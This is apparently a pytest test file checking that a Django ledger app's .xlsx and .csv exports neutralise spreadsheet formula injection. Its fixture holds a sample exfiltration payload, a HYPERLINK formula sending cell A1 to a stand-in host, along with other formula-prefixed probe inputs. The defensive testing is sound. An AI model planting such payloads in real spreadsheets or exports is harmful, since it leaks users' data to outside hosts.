"""Ledger exports neutralise every cell (ledger/cells.py): text from a document is never a formula, in .xlsx
or .csv, and the comparator column reads in words instead of a bare "=" (which showed as a literal '=)."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from taizhang.ledger.cells import csv_text, looks_like_formula, text_cell
from taizhang.ledger.models import Fact

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'


@pytest.fixture
def poisoned(ledger):
    f = Fact.objects.filter(kind="target").order_by("id").first()
    Fact.objects.filter(pk=f.pk).update(indicator_name=EVIL, subject="@SUM(1+1)", comparator="=")
    g = Fact.objects.filter(kind="target").exclude(pk=f.pk).order_by("id").first()
    Fact.objects.filter(pk=g.pk).update(subject="－1+2", comparator=">=")
    return f


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_export_has_no_formula_and_keeps_the_text(client_in, poisoned):
    r = client_in.get("/targets.xlsx")
    assert r.status_code == 200
    assert "<f>" not in _sheet_xml(r.content)  # nothing a spreadsheet would evaluate
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = list(ws.iter_rows(values_only=False))
    header = [c.value for c in rows[0]]
    col = {name: header.index(name) for name in ("编号", "指标", "主体", "比较")}
    row = next(r for r in rows[1:] if r[col["编号"]].value == poisoned.pk)
    assert row[col["指标"]].value == EVIL and row[col["指标"]].data_type == "s"
    assert row[col["主体"]].value == "@SUM(1+1)"
    comparators = {r[col["比较"]].value for r in rows[1:]}
    assert "等于" in comparators and "不低于" in comparators and not any("'" in str(c) for c in comparators)


def test_csv_export_quotes_formula_text(client_in, poisoned):
    r = client_in.get("/targets.csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    header = rows[0]
    row = next(x for x in rows[1:] if x[header.index("编号")] == str(poisoned.pk))
    assert row[header.index("指标")] == "'" + EVIL
    assert row[header.index("主体")] == "'@SUM(1+1)"
    assert row[header.index("比较")] == "等于"
    for x in rows[1:]:
        assert not any(looks_like_formula(cell) for cell in x), x


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "＝1", " =1"])
def test_cells_never_formulas(text):
    from openpyxl import Workbook
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append([text_cell(ws, text), text_cell(ws, 3.5), text_cell(ws, None)])
    buf = io.BytesIO()
    wb.save(buf)
    assert "<f>" not in _sheet_xml(buf.getvalue())
    assert load_workbook(buf).worksheets[0].cell(1, 1).value == text
    assert csv_text(text).startswith("'") and csv_text("普通文字") == "普通文字" and csv_text(7) == 7


def test_control_characters_do_not_break_the_export():
    from openpyxl import Workbook
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append([text_cell(ws, "第一\x00段\x0b文字")])
    buf = io.BytesIO()
    wb.save(buf)
    assert load_workbook(buf).worksheets[0].cell(1, 1).value == "第一段文字"
